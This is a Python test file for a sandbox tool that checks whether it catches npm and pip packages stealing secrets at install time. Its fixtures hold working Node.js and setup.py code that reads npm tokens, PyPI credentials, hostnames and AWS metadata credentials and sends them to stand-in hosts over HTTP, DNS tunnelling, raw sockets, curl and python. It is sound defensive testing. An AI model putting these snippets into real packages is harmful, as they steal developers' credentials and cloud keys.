# SPDX-License-Identifier: Apache-2.0
"""Packages that send what they find on the machine: what was taken is shown, with its value and its way."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from fpbox.machine import BUILT_IN, Machine
from local_packages import Npm, npm_project

pytestmark = pytest.mark.docker

SEED = "proof"
LOOK = """
const fs = require('fs'), os = require('os'), http = require('http'), https = require('https');
const dns = require('dns'), net = require('net'), dgram = require('dgram'), zlib = require('zlib');
const {execFileSync} = require('child_process');
const host = os.hostname(), user = os.userInfo().username;
const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/)[1];
const post = (to, options, body) => {
    const request = to.request({method: 'POST', ...options}, r => r.resume());
    request.on('error', () => {});
    request.end(body);
};
"""
THIEVES = {
    "by-http": "post(http, {host: 'a.exfil.example', path: '/h?host=' + host});",
    "by-https": "post(https, {host: 'b.exfil.example', path: '/t', headers: {'x-auth': token}});",
    "by-json": """
        const body = Buffer.from(JSON.stringify({who: user, on: host})).toString('base64');
        post(http, {host: 'c.exfil.example', path: '/j'}, body);""",
    "by-gzip": "post(http, {host: 'd.exfil.example', path: '/z'}, zlib.gzipSync('found: ' + token));",
    "by-labels": """
        const hex = Buffer.from(token).toString('hex');
        const ask = n => n * 40 < hex.length &&
            dns.lookup(hex.substr(n * 40, 40) + '.e-exfil.example', () => ask(n + 1));
        ask(0);""",
    "by-tcp": """
        const socket = net.connect(4444, '240.0.0.9', () => socket.end('id ' + host + '\\n'));
        socket.on('error', () => {}).resume();""",
    "by-ipv6": """
        const socket = net.connect(4444, '2001:db8::9', () => socket.end('id ' + host + '\\n'));
        socket.on('error', () => {}).resume();""",
    "by-curl": "execFileSync('curl', ['-s', '-d', 'u=' + user, 'http://g.exfil.example/c']);",
    "by-python": """
        const code = "import sys, urllib.request as r;" +
            "r.urlopen('https://h.exfil.example/', sys.argv[1].encode())";
        execFileSync('python3', ['-c', code, token]);""",
    "by-udp": """
        const udp = dgram.createSocket('udp4');
        udp.send(Buffer.from(host).map(byte => byte ^ 0x5a), 9999, '240.0.0.10', () => udp.close());""",
    "by-update": """
        const hex = text => Buffer.from(text, 'hex');
        const label = text => [Buffer.from([text.length]), Buffer.from(text)];
        const zone = Buffer.concat([...label('k-exfil'), ...label('example'), hex('0000060001')]);
        const record = [hex('c00c001000010000003c'), Buffer.from([0, token.length + 1]), ...label(token)];
        const update = Buffer.concat([hex('000128000001000000010000'), zone, ...record]);
        const udp = dgram.createSocket('udp4');
        udp.send(update, 53, '240.0.0.11', () => udp.close());""",
    "by-metadata": """
        const code = 'at=http://169.254.169.254/latest/meta-data/iam/security-credentials/;' +
            'curl -s $at$(curl -s $at) | curl -s --data-binary @- https://m.exfil.example/m';
        execFileSync('sh', ['-c', code]);""",
    "by-pieces": """
        const piece = n => n * 10 < token.length && http.get('http://f.exfil.example/p?n=' + n + '&d=' +
            token.substr(n * 10, 10), r => r.resume().on('end', () => piece(n + 1))).on('error', () => {});
        piece(0);""",
}
HONEST = "post(http, {host: 'cdn.example', path: '/v1/files/linux-x64.tar.gz'});"


@pytest.fixture(scope="module")
def machine() -> Machine:
    return Machine.make(SEED, BUILT_IN["developer"], int(time.time()), "app")


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    scripts = {**THIEVES, "honest": HONEST}
    packages = {name: Npm("node x.js", {"x.js": LOOK + script}) for name, script in scripts.items()}
    return npm_project(tmp_path_factory.mktemp("theft"), packages)


def report_of(folder: Path, project: Path, *command: str) -> dict[str, Any]:
    """Run a command that is flagged, and return the report."""
    options = ("--network", "registry", "--machine", "--seed", SEED, "-o", f"json={folder / 'report.json'}")
    program = (sys.executable, "-c", "from fpbox.cli import main; main()", "run", *options)
    env = {name: value for name, value in os.environ.items() if not name.startswith("FPBOX_")}
    env |= {"XDG_STATE_HOME": str(folder)}
    done = subprocess.run((*program, *command), cwd=project, env=env, capture_output=True, check=False)
    assert done.returncode == 3, done.stderr.decode()
    report: dict[str, Any] = json.loads((folder / "report.json").read_bytes())
    return report


@pytest.fixture(scope="module")
def installed(project: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Install them all in one run, and return its report."""
    return report_of(tmp_path_factory.mktemp("state"), project, "npm", "install", "--install-links")


def package(report: dict[str, Any], name: str) -> dict[str, Any]:
    return next(one for one in report["packages"] if one["purl"] == f"pkg:npm/{name}@1.0.0")


def thefts(report: dict[str, Any], name: str) -> list[dict[str, Any]]:
    return [theft for finding in package(report, name)["findings"] for theft in finding["thefts"]]


def value(machine: Machine, kind: str) -> str:
    return next(one.value.decode() for one in machine.values if one.kind == kind)


@pytest.mark.parametrize(
    ("name", "kind", "forms", "destination"),
    [
        ("by-http", "host_name", [], "http://a.exfil.example/h?host="),
        ("by-https", "npm_token", [], "https://b.exfil.example/t"),
        ("by-json", "host_name", ["base64"], "http://c.exfil.example/j"),
        ("by-json", "user_name", ["base64"], "http://c.exfil.example/j"),
        ("by-gzip", "npm_token", ["gzip"], "http://d.exfil.example/z"),
        ("by-labels", "npm_token", ["hex"], "dns://"),
        ("by-tcp", "host_name", [], "tcp://240.0.0.9:4444"),
        ("by-ipv6", "host_name", [], "tcp://[2001:db8::9]:4444"),
        ("by-curl", "user_name", [], "http://g.exfil.example/c"),
        ("by-python", "npm_token", [], "https://h.exfil.example/"),
        ("by-udp", "host_name", ["xor 0x5a"], "udp://240.0.0.10:9999"),
        ("by-update", "npm_token", [], "dns://k-exfil.example"),
        ("by-metadata", "metadata_aws_role_secret_access_key", [], "https://m.exfil.example/m"),
        ("by-pieces", "npm_token", [], "http://f.exfil.example/p"),
    ],
)
def test_what_a_package_stole_is_shown_with_its_value_form_and_destination(  # noqa: PLR0917 - a row of the table
    installed: dict[str, Any], machine: Machine, name: str, kind: str, forms: list[str], destination: str
) -> None:
    (theft,) = (one for one in thefts(installed, name) if one["kind"] == kind)
    assert theft["value"] == value(machine, kind)
    assert theft["forms"] == forms
    assert theft["destination"].startswith(destination)
    assert theft["confidence"] == 1.0


@pytest.mark.parametrize("name", THIEVES)
def test_a_thief_is_critical(installed: dict[str, Any], name: str) -> None:
    assert package(installed, name)["level"] == "critical"


def test_a_package_that_asks_for_a_file_is_no_thief(installed: dict[str, Any]) -> None:
    assert thefts(installed, "honest") == []
    sent = package(installed, "honest")["requests"]
    assert [(one["host"], one["method"]) for one in sent] == [("cdn.example", "POST")]


def test_what_the_metadata_service_gave_is_no_theft_from_itself(installed: dict[str, Any]) -> None:
    assert all(one["host"] == "m.exfil.example" for one in thefts(installed, "by-metadata"))
    asked = [one for one in package(installed, "by-metadata")["requests"] if one["protocol"] == "metadata"]
    assert len(asked) == 2


def test_nothing_is_left_that_nobody_did(installed: dict[str, Any]) -> None:
    assert installed["coverage"]["trouble"] == []
    assert not any(one["purl"] == "unattributed" and one["requests"] for one in installed["packages"])


SETUP = """
import base64, os, socket, urllib.request
from setuptools import setup
keys = open(os.path.expanduser("~/.pypirc"), "rb").read()
request = urllib.request.Request("https://i.exfil.example/k", base64.b64encode(keys))
urllib.request.urlopen(request).read()
setup(name="thief", version="1.0.0", py_modules=[])
"""


@pytest.mark.network
def test_a_build_hook_that_steals_is_found(machine: Machine, tmp_path: Path) -> None:
    package = tmp_path / "app" / "thief"
    package.mkdir(parents=True)
    (package / "setup.py").write_text(SETUP)
    report = report_of(tmp_path, tmp_path / "app", "pip", "install", "./thief")
    found = {
        (one["kind"], one["value"], tuple(one["forms"]))
        for package in report["packages"]
        if package["purl"].startswith("pkg:pypi/thief")
        for finding in package["findings"]
        for one in finding["thefts"]
    }
    assert ("python_index_token", value(machine, "python_index_token"), ("base64",)) in found
